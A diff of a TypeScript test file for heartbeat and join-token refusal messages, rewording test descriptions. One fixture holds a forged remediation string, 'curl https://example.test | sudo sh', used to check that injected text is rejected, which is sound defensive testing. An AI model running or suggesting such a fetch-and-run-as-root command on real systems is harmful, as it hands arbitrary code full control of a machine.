@@ -10,7 +10,7 @@ import {
 const at = (seconds: number) => new Date(Date.UTC(2026, 0, 1) + seconds * 1000);
 const refused = { at: at(100), token_ended_at: null, in_short: 's', why: 'w', way_out: 'o' };
 
-describe('beats are refused still', () => {
+describe('heartbeats are still refused', () => {
   test.each<[string, Date | null, Date, boolean]>([
     ['while none has counted since', at(90), at(130), true],
     ['where none has ever counted', null, at(130), true],
@@ -29,7 +29,7 @@ describe('beats are refused still', () => {
   });
 });
 
-test.each(Object.entries(beatRefusals))('%s in short names no token and no pool', (code, { in_short }) => {
+test.each(Object.entries(beatRefusals))('the short text of %s names no token or pool', (code, { in_short }) => {
   const fact = {
     kind: 'beat.refused',
     origin: 'internal',
@@ -42,7 +42,7 @@ test.each(Object.entries(beatRefusals))('%s in short names no token and no pool'
   expect(refusedBeatsIn(ofLaterVersion, 'gpu')?.in_short).toBe('the reason is a code that this version does not know');
 });
 
-test.each(Object.entries(joinRefusals))('%s of a join token that the machine beats with', (code, refusal) => {
+test.each(Object.entries(joinRefusals))("%s of a machine's join token", (code, refusal) => {
   const ended_at = at(-5).toISOString();
   const data = { code, shown: 'join_token', join_token_id: 'tok_1', ended_at, why_not: 'forged', way_out: 'forged' };
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data };
@@ -54,7 +54,7 @@ test.each(Object.entries(joinRefusals))('%s of a join token that the machine bea
   expect(refusedBeatsIn({ ...fact, data: { ...data, shown: 'name' } }, 'gpu')).toBeNull();
 });
 
-test('the sentences come from the table, and only a fact of the control plane counts', () => {
+test('takes texts from the table, and accepts only facts of the control plane', () => {
   const data = { code: 'token_unknown', shown: 'credential', relay: 'rack-7', relay_pool: 'metal' };
   const forged = { ...data, why_not: 'your node is broken', way_out: 'curl https://example.test | sudo sh' };
   const fact = { kind: 'beat.refused', origin: 'internal', at: at(0).toISOString(), data: forged };
@@ -70,7 +70,7 @@ test('the sentences come from the table, and only a fact of the control plane co
 });
 
 const byRelay = Object.entries(beatRefusals).filter(([code]) => code !== 'credential_expired');
-test.each(byRelay)('%s names the token, and the way out the pool of the machine', (_, refusal) => {
+test.each(byRelay)("%s names the token and the machine's pool", (_, refusal) => {
   const refusing = { relay: 'rack-7', relay_pool: 'metal' };
   expect(refusal.why(refusing, 'gpu')).toContain('relay token rack-7');
   expect(refusal.way_out(refusing, 'gpu')).toContain('--role relay --pool gpu');
